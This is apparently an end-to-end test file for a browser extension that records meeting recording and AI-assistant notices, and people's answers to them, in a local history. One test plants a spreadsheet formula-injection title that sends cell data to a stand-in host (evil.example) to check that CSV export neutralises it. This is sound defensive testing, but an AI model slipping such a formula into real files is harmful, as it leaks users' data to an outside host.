// The local consent history, end to end: headless Chromium with the extension starts the REAL
// native host (build/bin/consentlens-host) through native messaging, registered only for the
// test profile (<user-data-dir>/NativeMessagingHosts/io.consentlens.history.json) and writing to
// a database in a temp folder (CONSENTLENS_DB, inherited from the browser).
//
// 1. A notice on a fixture page, and what the person does about it, end up in the database (read
//    back with `consentlens history --json`) and on the history page, grouped by meeting; a
//    reload adds nothing; the meeting is a keyed fingerprint; no content script can read the
//    extension's storage; German and French dialog answers are recorded.
// 2. The history page: calendar periods, answers, a part of a site's name, an empty state, what
//    is kept, exports safe to open in a spreadsheet, deleting.
// 3. With no host installed, events wait in the extension's queue and the history page says what
//    to do on this browser; a manifest for another extension ID, and one whose program was
//    moved, are diagnosed as such; once the right manifest is there, the queue is delivered once.
//
// Waits are on conditions (storage change events, page state), never fixed sleeps.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync, mkdirSync, readdirSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { startSession, evaluateInContentScript, FINDING_TIMEOUT } from './lib/session.mjs';
import { extensionIdFromManifest, ROOT } from './lib/browser.mjs';
import { waitForTabRecord, openPopup } from './lib/extension.mjs';
import { waitForCard, clickCardButton } from './lib/card.mjs';
import { hostBinaryProblem, writeHostManifest, tempDatabase, historyJson, HOST_NAME } from './lib/native-host.mjs';

const ZOOM = 'https://app.zoom.us/wc/84512345678/join';
const missing = hostBinaryProblem();
if (missing) console.log(`# history.test.mjs skipped: ${missing}`);

// Waits, by listening to extension storage (no polling, no sleeps), until the history link's
// status satisfies `want`:
//   {delivered: n}        at least n events delivered since the worker started, none queued;
//   {queued: n, error}    at least n events queued and the host unreachable with an error
//                         matching `error`.
// Resolves to the status. The predicate is chosen inside the worker by name: the extension's CSP
// forbids building functions from strings there.
function waitForHistory(worker, want, timeoutMs = FINDING_TIMEOUT) {
  return worker.evaluate(({ want, timeoutMs }) => {
    const read = async () => (await chrome.storage.session.get('historyStatus')).historyStatus;
    const check = async () => {
      const status = await read();
      const queued = status?.queued || 0;
      if ('delivered' in want) return (status?.delivered || 0) >= want.delivered && queued === 0 ? status : null;
      return queued >= want.queued && status?.state === 'unreachable' && new RegExp(want.error).test(status.error || '') ? status : null;
    };
    // The listener is added before the first look, so a change between the two is not missed.
    return new Promise((resolve, reject) => {
      const settle = async () => {
        const got = await check();
        if (got) { cleanup(); resolve(got); }
      };
      const cleanup = () => {
        clearTimeout(timer);
        chrome.storage.session.onChanged.removeListener(settle);
      };
      const timer = setTimeout(async () => {
        cleanup();
        reject(new Error(`history not as wanted (${JSON.stringify(want)}): status ${JSON.stringify(await read())}`));
      }, timeoutMs);
      chrome.storage.session.onChanged.addListener(settle);
      settle();
    });
  }, { want, timeoutMs });
}

// The queue as the background keeps it (IndexedDB of the extension's origin).
function readVaultQueue(worker) {
  return worker.evaluate(() => new Promise((resolve, reject) => {
    const open = indexedDB.open('consentlens-history', 1);
    open.onerror = () => reject(open.error);
    open.onsuccess = () => {
      const get = open.result.transaction('vault').objectStore('vault').get('queue');
      get.onsuccess = () => { resolve(get.result || { events: [] }); open.result.close(); };
      get.onerror = () => reject(get.error);
    };
  }));
}

async function openHistory(s) {
  const page = await s.context.newPage();
  await page.setViewportSize({ width: 1200, height: 1000 });
  await page.goto(`chrome-extension://${s.extensionId}/history/history.html`);
  return page;
}

// Submits the history page's filters and waits for the page to load what they select.
async function applyFilters(history, values) {
  const before = await history.getAttribute('body', 'data-loaded');
  for (const [name, value] of Object.entries(values)) {
    const field = `#filters [name=${name}]`;
    if ((await history.evaluate((f) => document.querySelector(f).tagName, field)) === 'INPUT') await history.fill(field, value);
    else await history.selectOption(field, value);
  }
  await history.click('#filters button[type=submit]');
  await history.waitForFunction((b) => document.body.dataset.loaded && document.body.dataset.loaded !== b, before, { timeout: FINDING_TIMEOUT });
}

const rows = (history, table) => history.$$eval(`#${table} > tbody > tr:not(.meeting-events)`, (trs) => trs.map((tr) => tr.textContent));

// A copy of a fixture page with another title, or a dialog in another language, served at a
// meeting URL by the test itself (the page's scripts still come from the fixture server).
async function serveFixture(context, url, html) {
  await context.route(url, (route) => route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: html }));
}

function dialogPage(lang, title, heading, text, agree, leave) {
  return `<!doctype html><html lang="${lang}"><head><meta charset="utf-8"><title>${title}</title>
<link rel="stylesheet" href="/consentlens-fixtures/meeting.css"></head><body>
<div role="toolbar" aria-label="controls"><button>Mute</button></div>
<script src="/consentlens-fixtures/sim.js"></script>
<script>
'use strict';
const { h, later, done } = window.sim;
later(600, () => {
  const box = h('div', {}, h('div', { role: 'dialog', 'aria-modal': 'true' },
    h('h2', {}, ${JSON.stringify(heading)}), h('p', {}, ${JSON.stringify(text)}),
    h('button', { id: 'yes' }, ${JSON.stringify(agree)}), ' ', h('button', {}, ${JSON.stringify(leave)})));
  document.body.append(box);
  document.getElementById('yes').addEventListener('click', () => box.remove());
  done();
});
</script></body></html>`;
}

describe('history with the real native host', { skip: missing || false }, () => {
  let s;
  let db;
  before(async () => {
    db = tempDatabase();
    const extensionId = extensionIdFromManifest();
    s = await startSession({
      env: { CONSENTLENS_DB: db.path },
      setupProfile: (profile) => writeHostManifest(profile, extensionId),
    });
  });
  after(async () => {
    await s?.close();
    db?.remove();
  });

  test('a notice and the choices after it reach the database and the history page, once', async () => {
    const page = await s.context.newPage();
    await page.goto(ZOOM);
    const rec = await waitForTabRecord(s.worker, ZOOM, { kinds: ['recording', 'ai_assistant'] }, FINDING_TIMEOUT);
    await waitForCard(page, rec.entries.length, FINDING_TIMEOUT);
    const shown = rec.entries.length;

    // The person answers: Continue in Zoom's own recording dialog (stayed), then Details and
    // Dismiss on the card. The dialog's Continue answers the recording notice only.
    await page.click('#rec-continue');
    await clickCardButton(page, 'Details');
    await clickCardButton(page, 'Dismiss');
    const expected = shown + 1 + 2 * shown;
    const status = await waitForHistory(s.worker, { delivered: expected });
    assert.equal(status.store, 'indexeddb');

    const events = historyJson(db.path);
    assert.equal(events.length, expected, JSON.stringify(events.map((e) => [e.type, e.choice, e.finding?.kind])));
    assert.equal(new Set(events.map((e) => e.event_id)).size, events.length, 'every event once');
    const findings = events.filter((e) => e.type === 'finding_shown');
    assert.deepEqual(findings.map((e) => e.finding.kind).sort(), rec.entries.map((e) => e.finding.kind).sort());
    const plainHash = createHash('sha256').update(ZOOM).digest('hex');
    for (const e of events) {
      assert.equal(e.site, 'app.zoom.us');
      assert.match(e.meeting, /^hmac-sha256:[0-9a-f]{64}$/, 'the meeting is a keyed fingerprint by default');
      assert.ok(!e.meeting.includes(plainHash), 'not a plain hash of the link');
      assert.equal(e.page_title, undefined, 'no page title unless the person allows it');
    }
    assert.equal(new Set(events.map((e) => e.meeting)).size, 1);
    const recording = findings.find((e) => e.finding.kind === 'recording');
    assert.equal(recording.source, 'dialog');
    assert.match(recording.finding.evidence.text, /being recorded/, "the meeting app's own words are kept");
    const stayed = events.filter((e) => e.choice === 'stayed');
    assert.equal(stayed.length, 1);
    assert.equal(stayed[0].finding.kind, 'recording');
    assert.equal(events.filter((e) => e.choice === 'opened_details').length, shown);
    assert.equal(events.filter((e) => e.choice === 'dismissed').length, shown);

    // The queue is where no content script can reach it, and local storage is closed to them.
    assert.deepEqual(await s.worker.evaluate(() => chrome.storage.local.get('historyQueue')), {});
    assert.equal((await readVaultQueue(s.worker)).events.length, 0);
    const fromPage = await evaluateInContentScript(page,
      `(async () => { try { await chrome.storage.local.get(null); return 'read'; } catch (e) { return 'refused: ' + e.message; } })()`);
    assert.match(fromPage, /^refused/, 'a content script cannot read chrome.storage.local');

    // A reload shows the same notices again: nothing new is stored. The background records a
    // notice once per meeting (its meeting record in session storage), and behind it the queue
    // and the host refuse a repeat too (history-units.test.mjs, test_host_privacy.py).
    await page.reload();
    await waitForTabRecord(s.worker, ZOOM, { kinds: ['recording', 'ai_assistant'] }, FINDING_TIMEOUT);
    await waitForHistory(s.worker, { delivered: expected });
    assert.equal(historyJson(db.path).length, expected, 'a reload adds no event');
    await page.close();

    // The history page: one row for the meeting, its events when opened, one in full.
    const history = await openHistory(s);
    await history.waitForFunction(() => document.querySelectorAll('#meetings > tbody > tr').length === 1, null, { timeout: FINDING_TIMEOUT });
    assert.equal(await history.getAttribute('body', 'data-host'), 'ok');
    assert.equal(await history.isHidden('#diagnosis'), true);
    const [meeting] = await rows(history, 'meetings');
    for (const t of ['app.zoom.us', 'Recording', 'AI assistant', 'You stayed']) assert.ok(meeting.includes(t), `the meeting row shows "${t}": ${meeting}`);
    assert.ok(!meeting.includes('You dismissed'), 'card clicks are not answers');
    await history.click('#meetings > tbody > tr');
    await history.waitForFunction((n) => document.querySelectorAll('table.inner tr').length === n, expected);
    const inner = await history.textContent('table.inner');
    for (const t of ['Shown', 'You stayed', 'You dismissed the card', 'You opened the details']) assert.ok(inner.includes(t), `events show "${t}"`);
    await history.locator('table.inner tr', { hasText: 'Shown' }).filter({ hasText: 'Recording' }).first().click();
    await history.waitForSelector('#detail:not([hidden])');
    const detail = await history.textContent('#detail');
    assert.match(detail, /Who agreed/);
    assert.match(detail, /being recorded/, 'the detail quotes the evidence');
    assert.match(detail, /fingerprint only/);
    await history.waitForSelector('#chart svg rect[data-kind="recording"]');
    const kept = await history.textContent('#kept');
    assert.match(kept, /Never what people wrote in the chat/);
    assert.match(kept, /deleted after 365 days/);
    await history.screenshot({ path: s.artifact('history.png'), fullPage: true });

    // Search goes to the host with the filters.
    await applyFilters(history, { view: 'events', search: 'AI Companion' });
    const found = await rows(history, 'events');
    assert.ok(found.length >= 1 && found.every((t) => /AI assistant/.test(t)), found.join('\n'));
    await history.close();
  });

  test('German and French dialog answers are recorded', async () => {
    const cases = [
      { url: 'https://app.zoom.us/wc/84500000001/join', heading: 'Diese Besprechung wird aufgezeichnet', choice: 'stayed',
        html: dialogPage('de', 'Zoom Meeting', 'Diese Besprechung wird aufgezeichnet.', 'Wenn Sie in der Besprechung bleiben, stimmen Sie der Aufzeichnung zu.', 'Fortfahren', 'Meeting verlassen') },
      { url: 'https://acme.webex.com/meet/claire.martin', heading: 'Cette réunion est enregistrée', choice: 'accepted',
        html: dialogPage('fr', 'Webex', 'Cette réunion est enregistrée.', 'En restant dans la réunion, vous acceptez d’être enregistré.', "J'accepte", 'Quitter la réunion') },
    ];
    for (const c of cases) {
      const base = (await s.worker.evaluate(() => chrome.storage.session.get('historyStatus'))).historyStatus?.delivered || 0;
      await serveFixture(s.context, c.url, c.html);
      const page = await s.context.newPage();
      await page.goto(c.url);
      const rec = await waitForTabRecord(s.worker, c.url, { kinds: ['recording'] }, FINDING_TIMEOUT);
      await page.waitForSelector('#yes');
      await page.click('#yes');
      await waitForHistory(s.worker, { delivered: base + rec.entries.length + 1 });
      const mine = historyJson(db.path).filter((e) => e.type === 'choice' && (e.finding?.evidence?.text || '').includes(c.heading));
      assert.ok(mine.some((e) => e.choice === c.choice && e.finding.kind === 'recording'), `${c.url}: ${JSON.stringify(mine.map((e) => [e.choice, e.finding.kind]))}`);
      assert.ok(mine.every((e) => e.choice === c.choice));
      await page.close();
    }
  });

  test('with the options to keep the title and the link: both are recorded, the link without its query, exports safe to open', async () => {
    const options = await s.context.newPage();
    await options.goto(`chrome-extension://${s.extensionId}/options/options.html`);
    await options.check('#history-title');
    await options.waitForFunction(() => document.getElementById('message').textContent === 'Page titles are kept.');
    await options.check('#history-meeting-url');
    await options.waitForFunction(() => document.getElementById('message').textContent === 'Meeting links are kept.');
    await options.close();

    const base = (await s.worker.evaluate(() => chrome.storage.session.get('historyStatus'))).historyStatus?.delivered || 0;
    const url = 'https://meet.google.com/abc-defg-hij';
    const page = await s.context.newPage();
    await page.goto(`${url}?authuser=0&pwd=secret`);
    const rec = await waitForTabRecord(s.worker, `${url}?authuser=0&pwd=secret`, { kinds: ['ai_assistant', 'notetaker_bot'] }, FINDING_TIMEOUT);
    await waitForHistory(s.worker, { delivered: base + rec.entries.length });
    const mine = historyJson(db.path).filter((e) => e.site === 'meet.google.com');
    assert.equal(mine.length, rec.entries.length);
    for (const e of mine) {
      assert.equal(e.page_title, 'Meet - abc-defg-hij');
      assert.equal(e.meeting, url, 'the link is kept without its query');
    }
    const popup = await openPopup(s.context, s.extensionId, rec.tabId);
    const [opened] = await Promise.all([s.context.waitForEvent('page'), popup.click('#open-history')]);
    await opened.waitForURL(`chrome-extension://${s.extensionId}/history/history.html`);
    await opened.close();
    await popup.close();
    await page.close();

    // A page whose title a spreadsheet would run as a formula.
    const evil = 'https://app.zoom.us/wc/84555501000/join';
    const zoom = readFileSync(join(ROOT, 'tests/e2e/fixtures/zoom.html'), 'utf8')
      .replace('<title>Zoom Meeting</title>', '<title>=HYPERLINK("https://evil.example/?d="&amp;A1,"Join")</title>');
    await serveFixture(s.context, evil, zoom);
    const before = (await s.worker.evaluate(() => chrome.storage.session.get('historyStatus'))).historyStatus?.delivered || 0;
    const evilPage = await s.context.newPage();
    await evilPage.goto(evil);
    const evilRec = await waitForTabRecord(s.worker, evil, { kinds: ['recording', 'ai_assistant'] }, FINDING_TIMEOUT);
    await waitForHistory(s.worker, { delivered: before + evilRec.entries.length });
    await evilPage.close();
    const history = await openHistory(s);
    await history.waitForSelector('#meetings > tbody > tr');
    const [download] = await Promise.all([history.waitForEvent('download'), history.click('#export-csv')]);
    const csv = readFileSync(await download.path(), 'utf8');
    assert.match(csv, /,"'=HYPERLINK\(""https:\/\/evil\.example/, 'the formula is neutralised');
    assert.ok(!/(^|,)=HYPERLINK/m.test(csv));
    await history.close();
  });

  test('history page: calendar periods, answers, a part of the site, events view', async () => {
    const history = await openHistory(s);
    await history.waitForSelector('#meetings > tbody > tr');
    const all = (await rows(history, 'meetings')).length;
    assert.ok(all >= 4, `meetings so far: ${all}`);
    await applyFilters(history, { period: 'this_month' });
    assert.equal((await rows(history, 'meetings')).length, all);
    await applyFilters(history, { period: 'last_month' });
    assert.equal(await history.isVisible('#empty'), true);
    assert.match(await history.textContent('#empty'), /Nothing matches these filters/);
    await history.click('#clear-filters');
    await history.waitForFunction((n) => document.querySelectorAll('#meetings > tbody > tr').length === n, all);
    await applyFilters(history, { period: 'range' });
    const today = new Date();
    const ymd = `${today.getFullYear()}-${String(today.getMonth() + 1).padStart(2, '0')}-${String(today.getDate()).padStart(2, '0')}`;
    await applyFilters(history, { from: ymd, until: ymd });
    assert.equal((await rows(history, 'meetings')).length, all);
    await applyFilters(history, { period: '', choice: 'stayed' });
    const stayed = await rows(history, 'meetings');
    assert.ok(stayed.length >= 2 && stayed.every((t) => /You stayed/.test(t)), stayed.join('\n'));
    const answers = await history.$$eval('#filters [name=choice] option', (os) => os.map((o) => o.textContent));
    assert.deepEqual(answers, ['any', 'You stayed', 'You left', 'You agreed', 'You said no'], 'only real answers');
    await applyFilters(history, { choice: '', site: 'zoom' });
    const zoom = await rows(history, 'meetings');
    assert.ok(zoom.length >= 2 && zoom.every((t) => /zoom\.us/.test(t)), zoom.join('\n'));
    await applyFilters(history, { site: 'webex', view: 'events' });
    assert.ok((await rows(history, 'events')).every((t) => /acme\.webex\.com/.test(t)));
    await history.close();
  });

  test('history page: export, delete selected, purge after confirming, then an empty history', async () => {
    const before = historyJson(db.path);
    const history = await openHistory(s);
    await history.waitForSelector('#meetings > tbody > tr');
    await applyFilters(history, { view: 'events' });
    await history.waitForFunction((n) => document.querySelectorAll('#events tbody tr').length === Math.min(n, 50), before.length, { timeout: FINDING_TIMEOUT });
    const [download] = await Promise.all([history.waitForEvent('download'), history.click('#export-json')]);
    assert.match(download.suggestedFilename(), /^consentlens-history-\d{4}-\d\d-\d\d\.json$/);
    assert.deepEqual(JSON.parse(readFileSync(await download.path(), 'utf8')).map((e) => e.event_id).sort(), before.map((e) => e.event_id).sort());

    const victim = before[0].event_id;
    await history.check(`#events tbody tr[data-event-id="${victim}"] input[type=checkbox]`);
    await history.click('#delete-selected');
    await history.waitForFunction(() => /Deleted 1 event/.test(document.getElementById('message').textContent));
    assert.ok(!historyJson(db.path).some((e) => e.event_id === victim));

    await history.click('#purge');
    assert.equal(await history.isVisible('#purge-confirm'), true, 'purge asks first');
    await history.click('#purge-no');
    assert.equal(historyJson(db.path).length, before.length - 1, 'nothing purged without confirming');
    await history.click('#purge');
    await history.click('#purge-yes');
    await history.waitForFunction(() => !document.getElementById('empty').hidden);
    assert.deepEqual(historyJson(db.path), []);
    assert.match(await history.textContent('#empty'), /No history yet/);
    assert.equal(await history.isHidden('#clear-filters'), true, 'no filter to clear');

    await history.fill('#retention-days', '30');
    await history.click('#retention button[type=submit]');
    await history.waitForFunction(() => /kept for 30 days/.test(document.getElementById('message').textContent));
    assert.match(await history.textContent('#kept'), /deleted after 30 days/);
    await history.close();
  });
});

// Ends the native hosts the browser started for this test's database (found by their
// environment, ended by their process id); returns how many.
function stopHostsOf(dbPath) {
  let n = 0;
  for (const pid of readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
    try {
      const cmd = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      const env = readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0');
      if (cmd.includes('consentlens-host') && env.includes(`CONSENTLENS_DB=${dbPath}`)) {
        process.kill(Number(pid), 'SIGTERM');
        n += 1;
      }
    } catch {
      // The process ended meanwhile, or is not ours to read.
    }
  }
  return n;
}

// A manifest for this profile naming `program` (which may not exist).
function writeManifestFor(profile, extensionId, program) {
  const dir = join(profile, 'NativeMessagingHosts');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, `${HOST_NAME}.json`), JSON.stringify({
    name: HOST_NAME, description: 'consentlens (test)', path: program, type: 'stdio',
    allowed_origins: [`chrome-extension://${extensionId}/`],
  }));
}

describe('history queue while the host is missing', { skip: missing || false }, () => {
  let s;
  let db;
  before(async () => {
    db = tempDatabase();
    s = await startSession({ env: { CONSENTLENS_DB: db.path } });  // no host manifest yet
  });
  after(async () => {
    await s?.close();
    db?.remove();
  });

  test('events wait in the queue, the page says what to do, and they are delivered exactly once', async () => {
    const page = await s.context.newPage();
    await page.goto(ZOOM);
    const rec = await waitForTabRecord(s.worker, ZOOM, { kinds: ['recording', 'ai_assistant'] }, FINDING_TIMEOUT);
    const n = rec.entries.length;
    await waitForHistory(s.worker, { queued: n, error: 'native messaging host not found' });
    const queuedIds = (await readVaultQueue(s.worker)).events.map((e) => e.event_id);
    assert.equal(new Set(queuedIds).size, n);
    await page.close();

    // The history page says what is wrong and what to do, for this browser and system.
    const history = await openHistory(s);
    await history.waitForFunction(() => document.body.dataset.host === 'not_installed', null, { timeout: FINDING_TIMEOUT });
    const diag = await history.textContent('#diagnosis');
    assert.match(diag, /not installed, or cannot be found/);
    assert.match(diag, /\.\/consentlens-host install --browser chromium/);
    assert.match(diag, /consentlens-host doctor --browser chromium/);
    assert.match(diag, /for Linux/);
    assert.doesNotMatch(diag, /build\/bin\/consentlens-host install/, 'no source checkout assumed');
    await history.waitForFunction(() => /waiting to be saved/.test(document.getElementById('queue').textContent));
    await history.screenshot({ path: s.artifact('history-not-installed.png'), fullPage: true });

    // A manifest that allows another extension: the page names that cause.
    writeHostManifest(s.browser.profile, 'abcdefghijklmnopabcdefghijklmnop');
    await history.click('#retry');
    await history.waitForFunction(() => document.body.dataset.host === 'forbidden', null, { timeout: FINDING_TIMEOUT });
    assert.match(await history.textContent('#diagnosis'), /does not allow this extension/);

    // The right manifest: the queue is delivered, once.
    writeHostManifest(s.browser.profile, s.extensionId);
    await history.click('#retry');
    await waitForHistory(s.worker, { delivered: n });
    await history.waitForFunction(() => document.querySelectorAll('#meetings > tbody > tr').length === 1, null, { timeout: FINDING_TIMEOUT });
    assert.deepEqual(historyJson(db.path).map((e) => e.event_id).sort(), [...queuedIds].sort());
    await history.reload();
    await history.waitForFunction(() => document.querySelectorAll('#meetings > tbody > tr').length === 1);
    assert.equal(historyJson(db.path).length, n, 'asking again stores nothing twice');

    // The program moves away (a build folder deleted): the browser only says "not found", and
    // the page, knowing the helper answered before, says it was moved or deleted.
    writeManifestFor(s.browser.profile, s.extensionId, '/nonexistent/consentlens-build/consentlens-host');
    const gone = stopHostsOf(db.path);  // the running host ends, as it would when it is deleted and the browser restarts
    assert.ok(gone >= 1, 'a host was running for this profile');
    await waitForHistory(s.worker, { queued: 0, error: 'exited|not found' });
    await history.reload();
    await history.waitForFunction(() => document.body.dataset.host === 'moved', null, { timeout: FINDING_TIMEOUT });
    const moved = await history.textContent('#diagnosis');
    assert.match(moved, /reached before, and cannot be found now/);
    assert.match(moved, /moved or deleted/);
    await history.close();
  });
});
